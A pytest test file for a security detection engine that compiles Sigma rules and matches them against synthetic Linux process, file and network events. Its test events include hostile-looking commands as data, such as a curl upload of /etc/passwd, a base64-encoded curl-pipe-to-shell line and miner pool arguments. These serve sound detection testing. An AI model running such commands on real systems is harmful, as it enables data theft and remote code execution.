"""Sigma rules translated into the rule AST, compiled by the rule engine, run on synthetic events.

Each test writes a small Sigma rule, compiles it exactly as a loaded rule would be, and checks
which synthetic events (sentinel.events.model) it matches: that is how Sigma's semantics
(case-insensitivity, wildcards, modifiers, keywords, `1 of`/`all of`) are pinned down.
"""

from __future__ import annotations

import base64
import textwrap

import pytest

from sentinel.errors import RuleError
from sentinel.events.model import Event, Fd, Process
from sentinel.rules import ast
from sentinel.rules.ruleset import compile_rules
from sentinel.rules.sigma import SigmaLoadError, load_sigma_text

HEADER = """\
title: {title}
id: {rule_id}
level: {level}
logsource:
    product: linux
    category: {category}
"""


def sigma(detection: str, category: str = "process_creation", title: str = "Test Rule", level: str = "high",
          rule_id: str = "11111111-2222-3333-4444-555555555555", extra: str = "") -> str:
    header = HEADER.format(title=title, rule_id=rule_id, level=level, category=category)
    return header + extra + "detection:\n" + textwrap.indent(textwrap.dedent(detection), "    ")


def load_one(text: str):
    result = load_sigma_text(text, "test.yml")
    result.raise_errors()
    assert not result.skipped, [str(skip) for skip in result.skipped]
    assert len(result.rules) == 1
    return result.rules[0]


def compile_spec(spec):
    """The rule compiled by the rule engine, as a predicate: does it match this event?"""
    ruleset = compile_rules([spec])
    return lambda event: [rule.name for rule in ruleset.match(event)] == [spec.name]


def matcher(detection: str, category: str = "process_creation"):
    return compile_spec(load_one(sigma(detection, category)))


def parent_process(**fields) -> Process:
    defaults = dict(pid=100, comm="bash", exe="bash", exepath="/usr/bin/bash", args=("-i",))
    defaults.update(fields)
    return Process(**defaults)


def exec_event(exepath: str = "/usr/bin/curl", args: tuple[str, ...] = (), exe: str | None = None, res: int = 0,
               parent: Process | None = None, **proc_fields) -> Event:
    name = exepath.rsplit("/", 1)[-1]
    proc = Process(
        pid=4242,
        comm=name[:15],
        exe=exe if exe is not None else name,
        exepath=exepath,
        args=tuple(args),
        ppid=parent.pid if parent else 1,
        parent=parent if parent is not None else parent_process(),
        **{"user_name": "root", "cwd": "/root", **proc_fields},
    )
    return Event("execve", proc, res=res)


def open_event(path: str, created: bool = True, type: str = "openat", exepath: str = "/usr/bin/wget") -> Event:
    proc = Process(pid=77, comm=exepath.rsplit("/", 1)[-1], exe=exepath, exepath=exepath, parent=parent_process())
    flags = 0o100 | 0o1  # O_CREAT | O_WRONLY
    return Event(type, proc, res=3, args={"flags": flags, "mode": 0o644}, fd=Fd(3, "file", path, created=created))


def connect_event(rip: str, rport: int, type: str = "connect", exepath: str = "/usr/bin/bash", res: int = 0,
                  lip: str = "10.1.1.1", lport: int = 40000) -> Event:
    proc = Process(pid=88, comm="bash", exe="bash", exepath=exepath, parent=parent_process())
    is_server = type != "connect"
    family = 10 if ":" in rip else 2
    fd = Fd(4, "ipv6" if family == 10 else "ipv4", "", l4proto="tcp", family=family, lip=lip, lport=lport,
            rip=rip, rport=rport, is_server=is_server)
    if is_server:  # an accepted connection: the local end is the server
        fd.lip, fd.lport, fd.rip, fd.rport = rip, rport, lip, lport
    return Event(type, proc, res=res if type == "connect" else 5, fd=fd)


# --------------------------------------------------------------------------------------------
# Plain values, case-insensitivity and wildcards


def test_plain_value_is_a_case_insensitive_equality():
    match = matcher("sel:\n    Image: '/usr/bin/CURL'\ncondition: sel")
    assert match(exec_event("/usr/bin/curl"))
    assert match(exec_event("/USR/BIN/CURL"))
    assert not match(exec_event("/usr/bin/curl2"))


def test_list_of_values_matches_any_of_them():
    match = matcher("sel:\n    Image:\n        - /usr/bin/wget\n        - /usr/bin/CURL\ncondition: sel")
    assert match(exec_event("/usr/bin/curl"))
    assert match(exec_event("/usr/bin/wget"))
    assert not match(exec_event("/usr/bin/nc"))


def test_contains_startswith_endswith_are_case_insensitive():
    contains = matcher("sel:\n    CommandLine|contains: 'Secret'\ncondition: sel")
    assert contains(exec_event("/usr/bin/cat", ("/tmp/SECRET.txt",)))
    assert not contains(exec_event("/usr/bin/cat", ("/tmp/other.txt",)))
    starts = matcher("sel:\n    Image|startswith: '/TMP/'\ncondition: sel")
    assert starts(exec_event("/tmp/payload"))
    assert not starts(exec_event("/usr/tmp/payload"))
    ends = matcher("sel:\n    Image|endswith: '/Base64'\ncondition: sel")
    assert ends(exec_event("/usr/bin/base64"))
    assert not ends(exec_event("/usr/bin/base64x"))


def test_cased_makes_matching_case_sensitive():
    equal = matcher("sel:\n    Image|cased: '/opt/Tool'\ncondition: sel")
    assert equal(exec_event("/opt/Tool"))
    assert not equal(exec_event("/opt/tool"))
    contains = matcher("sel:\n    CommandLine|contains|cased: ' -R '\ncondition: sel")
    assert contains(exec_event("/usr/bin/ls", ("-R", "/")))
    assert not contains(exec_event("/usr/bin/ls", ("-r", "/")))


def test_wildcards_star_and_question_mark_glob_the_whole_value_case_insensitively():
    match = matcher("sel:\n    Image: '/usr/*/C?RL'\ncondition: sel")
    assert match(exec_event("/usr/bin/curl"))
    assert match(exec_event("/usr/local/bin/cUrl"))
    assert not match(exec_event("/usr/bin/curls"))
    assert not match(exec_event("/opt/bin/curl"))


def test_escaped_star_is_a_literal():
    match = matcher("sel:\n    CommandLine|contains: 'a\\*b'\ncondition: sel")
    assert match(exec_event("/usr/bin/echo", ("a*b",)))
    assert not match(exec_event("/usr/bin/echo", ("axxb",)))


def test_lone_star_matches_any_present_value():
    match = matcher("sel:\n    ParentImage: '*'\ncondition: sel")
    assert match(exec_event("/usr/bin/id"))


def test_all_modifier_requires_every_value():
    match = matcher("sel:\n    CommandLine|contains|all:\n        - ' -o '\n        - 'pool.'\ncondition: sel")
    assert match(exec_event("/opt/xmrig", ("-o", "pool.example", "-k")))
    assert not match(exec_event("/opt/xmrig", ("-o", "example")))
    assert not match(exec_event("/opt/xmrig", ("pool.example",)))


# --------------------------------------------------------------------------------------------
# Modifiers


def test_re_is_an_unanchored_case_sensitive_search():
    match = matcher("sel:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel")
    assert match(exec_event("/usr/bin/curl", ("-F", "x=@/etc/passwd", "http://a")))
    assert not match(exec_event("/usr/bin/curl", ("-f", "http://a")))


def test_re_flags_i_m_s():
    insensitive = matcher("sel:\n    CommandLine|re|i: 'INVOKE-[a-z]+'\ncondition: sel")
    assert insensitive(exec_event("/usr/bin/pwsh", ("invoke-Thing",)))
    multiline = matcher("sel:\n    CommandLine|re|m: '^second$'\ncondition: sel")
    assert multiline(exec_event("/usr/bin/sh", ("first\nsecond\nthird",)))
    plain = matcher("sel:\n    CommandLine|re: '^second$'\ncondition: sel")
    assert not plain(exec_event("/usr/bin/sh", ("first\nsecond\nthird",)))
    dotall = matcher("sel:\n    CommandLine|re|s: 'first.second'\ncondition: sel")
    assert dotall(exec_event("/usr/bin/sh", ("first\nsecond",)))
    no_dotall = matcher("sel:\n    CommandLine|re: 'first.second'\ncondition: sel")
    assert not no_dotall(exec_event("/usr/bin/sh", ("first\nsecond",)))


def test_re_with_its_own_leading_inline_flag():
    match = matcher("sel:\n    CommandLine|re: '(?i)invoke-[a-z]+'\ncondition: sel")
    assert match(exec_event("/usr/bin/pwsh", ("INVOKE-thing",)))
    assert not match(exec_event("/usr/bin/pwsh", ("invoke",)))
    assert skip_of(sigma("sel:\n    CommandLine|re: 'a(?i)b'\ncondition: sel")).reason == "unsupported-value"


def test_cidr_matches_the_destination_network():
    match = matcher("sel:\n    DestinationIp|cidr:\n        - 10.0.0.0/8\n        - 'fc00::/7'\ncondition: sel",
                    "network_connection")
    assert match(connect_event("10.2.3.4", 443))
    assert match(connect_event("fd12::1", 443, lip="fd00::2"))
    assert not match(connect_event("192.168.1.1", 443))


def test_base64_matches_the_encoded_value():
    encoded = base64.b64encode(b"secret-token").decode()
    match = matcher("sel:\n    CommandLine|base64|contains: 'secret-token'\ncondition: sel")
    assert match(exec_event("/usr/bin/echo", (encoded,)))
    assert not match(exec_event("/usr/bin/echo", ("secret-token",)))


def test_base64offset_matches_at_every_offset():
    match = matcher("sel:\n    CommandLine|base64offset|contains: 'curl http'\ncondition: sel")
    for prefix in (b"", b"x", b"xy"):
        encoded = base64.b64encode(prefix + b"curl http://example | sh").decode()
        assert match(exec_event("/usr/bin/echo", (encoded,))), prefix
    assert not match(exec_event("/usr/bin/echo", (base64.b64encode(b"wget http://x").decode(),)))


def test_windash_accepts_slash_and_unicode_dashes():
    match = matcher("sel:\n    CommandLine|windash|contains: ' -exec '\ncondition: sel")
    assert match(exec_event("/usr/bin/find", (".", "-exec", "sh")))
    assert match(exec_event("/usr/bin/find", (".", "/exec", "sh")))
    assert match(exec_event("/usr/bin/find", (".", "\u2013exec", "sh")))
    assert not match(exec_event("/usr/bin/find", (".", "exec", "sh")))


def test_exists_true_and_false():
    present = matcher("sel:\n    ParentImage|exists: true\ncondition: sel")
    absent = matcher("sel:\n    ParentImage|exists: false\ncondition: sel")
    orphan = exec_event("/usr/bin/id")
    orphan.proc.parent = None
    assert present(exec_event("/usr/bin/id"))
    assert not present(orphan)
    assert absent(orphan)
    assert not absent(exec_event("/usr/bin/id"))


def test_null_matches_an_empty_or_absent_value():
    match = matcher("sel:\n    CurrentDirectory: null\ncondition: sel")
    assert match(exec_event("/usr/bin/id", cwd=""))
    assert not match(exec_event("/usr/bin/id"))


def test_neq_negates_the_value():
    match = matcher("sel:\n    Image|endswith: '/id'\n    User|neq: root\ncondition: sel")
    assert not match(exec_event("/usr/bin/id"))
    alice = exec_event("/usr/bin/id")
    alice.proc.user_name = "alice"
    assert match(alice)


@pytest.mark.parametrize(
    ("modifier", "bound", "expected"),
    [("gt", 4241, True), ("gt", 4242, False), ("gte", 4242, True), ("gte", 4243, False),
     ("lt", 4243, True), ("lt", 4242, False), ("lte", 4242, True), ("lte", 4241, False)],
)
def test_numeric_comparisons(modifier, bound, expected):
    match = matcher("sel:\n    ProcessId|%s: %d\ncondition: sel" % (modifier, bound))
    assert match(exec_event("/usr/bin/id")) is expected


def test_fieldref_compares_two_fields():
    match = matcher("sel:\n    ParentImage|fieldref: Image\ncondition: sel")
    same = exec_event("/usr/bin/bash", parent=parent_process(exepath="/usr/bin/bash"))
    other = exec_event("/usr/bin/id", parent=parent_process(exepath="/usr/bin/bash"))
    assert match(same)
    assert not match(other)


# --------------------------------------------------------------------------------------------
# Keywords and conditions


def test_keywords_are_case_insensitive_substrings_of_the_command_line():
    match = matcher("keywords:\n    - 'NoProfile'\n    - 'hidden*window'\ncondition: keywords")
    assert match(exec_event("/usr/bin/pwsh", ("-noprofile", "-c", "x")))
    assert match(exec_event("/usr/bin/pwsh", ("-HIDDEN", "-window")))
    assert not match(exec_event("/usr/bin/pwsh", ("-c", "x")))


def test_one_of_selection_pattern():
    match = matcher(
        "selection_curl:\n    Image|endswith: /curl\nselection_wget:\n    Image|endswith: /wget\n"
        "other:\n    Image|endswith: /nc\ncondition: 1 of selection_*"
    )
    assert match(exec_event("/usr/bin/curl"))
    assert match(exec_event("/usr/bin/wget"))
    assert not match(exec_event("/usr/bin/nc"))


def test_all_of_them_and_parentheses():
    match = matcher(
        "image:\n    Image|endswith: /curl\nargs:\n    CommandLine|contains: ' -k '\ncondition: all of them"
    )
    assert match(exec_event("/usr/bin/curl", ("-k", "https://x")))
    assert not match(exec_event("/usr/bin/curl", ("https://x",)))
    grouped = matcher(
        "a:\n    Image|endswith: /curl\nb:\n    Image|endswith: /wget\nc:\n    CommandLine|contains: http\n"
        "condition: (a or b) and not c"
    )
    assert grouped(exec_event("/usr/bin/wget", ("ftp://x",)))
    assert not grouped(exec_event("/usr/bin/wget", ("http://x",)))
    assert not grouped(exec_event("/usr/bin/nc", ("ftp://x",)))


def test_selection_as_list_of_maps_is_an_or_of_and_groups():
    match = matcher(
        "sel:\n    - Image|endswith: /curl\n      CommandLine|contains: ' -k'\n    - Image|endswith: /wget\ncondition: sel"
    )
    assert match(exec_event("/usr/bin/curl", ("-k",)))
    assert not match(exec_event("/usr/bin/curl", ("-v",)))
    assert match(exec_event("/usr/bin/wget"))


# --------------------------------------------------------------------------------------------
# Log sources: the category decides the events


def test_process_creation_only_matches_successful_execs():
    match = matcher("sel:\n    Image|endswith: /curl\ncondition: sel")
    assert not match(exec_event("/usr/bin/curl", res=-2))
    failed_open = open_event("/usr/bin/curl")
    assert not match(failed_open)


def test_command_line_starts_with_argv0_not_comm():
    match = matcher("sel:\n    CommandLine|startswith: './tool --flag'\ncondition: sel")
    assert match(exec_event("/opt/x/tool-with-a-very-long-name", ("--flag",), exe="./tool"))


def test_parent_command_line_and_current_directory():
    match = matcher(
        "sel:\n    ParentCommandLine: 'bash -i'\n    CurrentDirectory: '/root'\n    User: ROOT\n    LogonId: -1\n"
        "condition: sel"
    )
    assert match(exec_event("/usr/bin/id", parent=parent_process(exe="bash", args=("-i",))))
    assert not match(exec_event("/usr/bin/id", parent=parent_process(exe="bash", args=("-l",))))


def test_file_event_needs_a_created_file():
    match = matcher("sel:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: sel", "file_event")
    assert match(open_event("/etc/cron.d/job"))
    assert not match(open_event("/etc/cron.d/job", created=False))
    assert not match(open_event("/etc/other"))


def test_network_connection_initiated_true_and_false():
    outgoing = matcher("sel:\n    Initiated: 'true'\n    DestinationPort: 4444\ncondition: sel", "network_connection")
    incoming = matcher("sel:\n    Initiated: 'false'\n    DestinationPort: 4444\ncondition: sel", "network_connection")
    assert outgoing(connect_event("203.0.113.5", 4444))
    assert not outgoing(connect_event("203.0.113.5", 4445))
    assert not incoming(connect_event("203.0.113.5", 4444))
    accepted = connect_event("10.1.1.1", 4444, type="accept4", lip="203.0.113.9", lport=51000)
    assert incoming(accepted)
    assert not outgoing(accepted)


def test_network_connection_ignores_failed_connects_and_unix_sockets():
    match = matcher("sel:\n    Image|endswith: /bash\ncondition: sel", "network_connection")
    assert match(connect_event("203.0.113.5", 80))
    assert match(connect_event("203.0.113.5", 80, res=-115))  # EINPROGRESS: non-blocking connect
    assert not match(connect_event("203.0.113.5", 80, res=-111))
    unix = connect_event("203.0.113.5", 80)
    unix.fd.type = "unix"
    assert not match(unix)


# --------------------------------------------------------------------------------------------
# Alert metadata


def test_rule_metadata_level_tags_references_output():
    text = sigma(
        "sel:\n    Image|endswith: /curl\ncondition: sel",
        level="critical",
        extra="tags:\n    - attack.execution\n    - attack.t1059\nreferences:\n    - https://example.org/a\n"
        "description: |\n    Detects\n    curl.\n",
    )
    spec = load_one(text)
    assert spec.name == "Test Rule"
    assert spec.priority == "critical"
    assert spec.source == "sigma"
    assert spec.sigma_id == "11111111-2222-3333-4444-555555555555"
    assert spec.tags == ("attack.execution", "attack.t1059", "sigma")
    assert spec.references == ("https://example.org/a",)
    assert spec.extra == {"sigma": {"id": spec.sigma_id, "level": "critical", "references": ["https://example.org/a"]}}
    assert spec.desc == "Detects curl."
    assert "%proc.exeline" in spec.output and "11111111-2222-3333-4444-555555555555" in spec.output


@pytest.mark.parametrize(
    ("level", "priority"),
    [("informational", "informational"), ("low", "notice"), ("medium", "warning"), ("high", "error"), ("critical", "critical")],
)
def test_level_to_priority(level, priority):
    assert load_one(sigma("sel:\n    Image: /x\ncondition: sel", level=level)).priority == priority


def test_colliding_titles_get_the_id_appended():
    first = sigma("sel:\n    Image: /x\ncondition: sel", rule_id="aaaaaaaa-0000-0000-0000-000000000001")
    second = sigma("sel:\n    Image: /y\ncondition: sel", rule_id="aaaaaaaa-0000-0000-0000-000000000002")
    result = load_sigma_text(first + "\n---\n" + second, "two.yml")
    assert [spec.name for spec in result.rules] == [
        "Test Rule",
        "Test Rule (aaaaaaaa-0000-0000-0000-000000000002)",
    ]


def test_translated_condition_reads_as_falco_text():
    spec = load_one(sigma("sel:\n    Image|endswith:\n        - /Curl\n        - /wget\n    CommandLine|contains: ' -O '\ncondition: sel"))
    assert ast.render(spec.condition) == (
        "evt.type in (execve, execveat) and evt.rawres = 0 and "
        "tolower(basename(proc.exepath)) in (curl, wget) and "
        'tolower(proc.exeline) contains " -o "'
    )


# --------------------------------------------------------------------------------------------
# Skips and errors


def skip_of(text: str):
    result = load_sigma_text(text, "skip.yml")
    result.raise_errors()
    assert not result.rules
    (skip,) = result.skipped
    return skip


def test_unavailable_field_skips_the_rule_with_reason_and_line():
    skip = skip_of(sigma("sel:\n    DestinationHostname|endswith: .ngrok.io\ncondition: sel", "network_connection"))
    assert skip.reason == "unavailable-field"
    assert "DestinationHostname" in skip.detail and "DNS" in skip.detail
    assert (skip.location.path, skip.location.line, skip.location.col) == ("skip.yml", 9, 9)


def test_unavailable_field_under_not_still_skips_the_whole_rule():
    skip = skip_of(sigma(
        "sel:\n    Image|endswith: /curl\nfilter:\n    OriginalFileName: curl.exe\ncondition: sel and not filter"
    ))
    assert skip.reason == "unavailable-field"


def test_unknown_field_skips():
    assert skip_of(sigma("sel:\n    Frobnicate: 1\ncondition: sel")).reason == "unknown-field"


@pytest.mark.parametrize(
    "logsource",
    ["    product: linux\n    service: auditd\n", "    product: windows\n    category: process_creation\n",
     "    product: linux\n    category: process_access\n"],
)
def test_unsupported_logsources_skip(logsource):
    text = "title: T\nid: 5b2f7e2a-0000-4000-8000-000000000001\nlogsource:\n" + logsource + "detection:\n    sel:\n        x: 1\n    condition: sel\n"
    assert skip_of(text).reason == "unsupported-logsource"


def test_unsupported_constructs_skip():
    assert skip_of(sigma("sel:\n    CommandLine|expand: '%admin%'\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("sel:\n    ProcessId|minute: 5\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("sel:\n    Image: /x\ncondition: sel | count() > 5")).reason == "unsupported-rule-type"


def test_values_without_meaning_for_the_field_skip():
    assert skip_of(sigma("sel:\n    ProcessId|fieldref: Image\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("sel:\n    ProcessId: true\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("sel:\n    ProcessId: '12*'\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("sel:\n    Image|cidr: 10.0.0.0/8\ncondition: sel")).reason == "unsupported-value"
    assert skip_of(sigma("keywords:\n    - evil\ncondition: keywords", "network_connection")).reason == "unsupported-value"


def test_invalid_sigma_is_an_error_with_its_location():
    with pytest.raises(SigmaLoadError) as caught:
        load_sigma_text(sigma("sel:\n    Image|frobnicate: x\ncondition: sel"), "bad.yml").raise_errors()
    assert isinstance(caught.value, RuleError)
    assert "bad.yml:1:1" in str(caught.value) and "frobnicate" in str(caught.value)
    with pytest.raises(SigmaLoadError) as caught:
        load_sigma_text(sigma("sel:\n    Image: x\ncondition: sel and missing"), "bad.yml").raise_errors()
    assert "missing" in str(caught.value)
    with pytest.raises(SigmaLoadError) as caught:
        load_sigma_text("title: x\ndetection: [\n", "broken.yml").raise_errors()
    assert "broken.yml:3" in str(caught.value)


def test_collection_with_a_global_document_and_locations_per_rule():
    text = textwrap.dedent("""\
        action: global
        logsource:
            product: linux
            category: process_creation
        level: low
        ---
        title: First
        id: 6f1e2d3c-0000-4000-8000-000000000001
        detection:
            sel:
                Image|endswith: /id
            condition: sel
        ---
        title: Second
        id: 6f1e2d3c-0000-4000-8000-000000000002
        detection:
            sel:
                Hashes|contains: abc
            condition: sel
        """)
    result = load_sigma_text(text, "collection.yml")
    result.raise_errors()
    assert [(spec.name, spec.priority, spec.location.line) for spec in result.rules] == [("First", "notice", 7)]
    (skip,) = result.skipped
    assert (skip.title, skip.reason, skip.location.line, skip.location.col) == ("Second", "unavailable-field", 18, 9)
